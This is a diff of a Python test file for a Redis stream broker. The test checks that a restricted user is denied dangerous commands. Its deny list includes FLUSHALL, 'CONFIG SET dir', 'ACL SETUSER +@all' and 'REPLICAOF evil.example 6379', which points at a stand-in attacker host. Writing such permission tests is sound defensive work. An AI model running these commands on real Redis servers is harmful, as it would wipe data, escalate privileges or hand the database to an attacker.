@@ -90,7 +90,7 @@ async def the_queue(settings: Settings, client: Redis) -> None:
     await asyncio.sleep(0.1)
     heir = StreamBroker(settings, idle=50, block=50)
     taken = await anext(heir.listen())
-    await taken.ack()  # type: ignore[misc]
+    await taken.ack()
     assert await client_length(settings) == 0
     await heir.shutdown()
     await dead.shutdown()
@@ -134,7 +134,7 @@ async def test_s40_and_nothing_else(settings: Settings, admin: Redis):
         hidden = await client.script_load("return redis.call('GET', 'others')")
         emptied = await client.script_load("return redis.call('FLUSHALL')")
         for words in (
-            *(["FLUSHALL"], ["FLUSHDB"], ["CONFIG", "GET", "*"], ["CONFIG", "SET", "dir", "/tmp"], ["SHUTDOWN"]),
+            *(["FLUSHALL"], ["FLUSHDB"], ["CONFIG", "GET", "*"], ["CONFIG", "SET", "dir", "/var"], ["SHUTDOWN"]),
             *(["KEYS", "*"], ["SCAN", "0"], ["DBSIZE"], ["RANDOMKEY"], ["INFO"], ["MONITOR"], ["CLIENT", "LIST"]),
             *(["ACL", "LIST"], ["ACL", "SETUSER", USER, "+@all"], ["ACL", "WHOAMI"]),
             *(["SAVE"], ["BGREWRITEAOF"], ["REPLICAOF", "evil.example", "6379"], ["MODULE", "LIST"]),
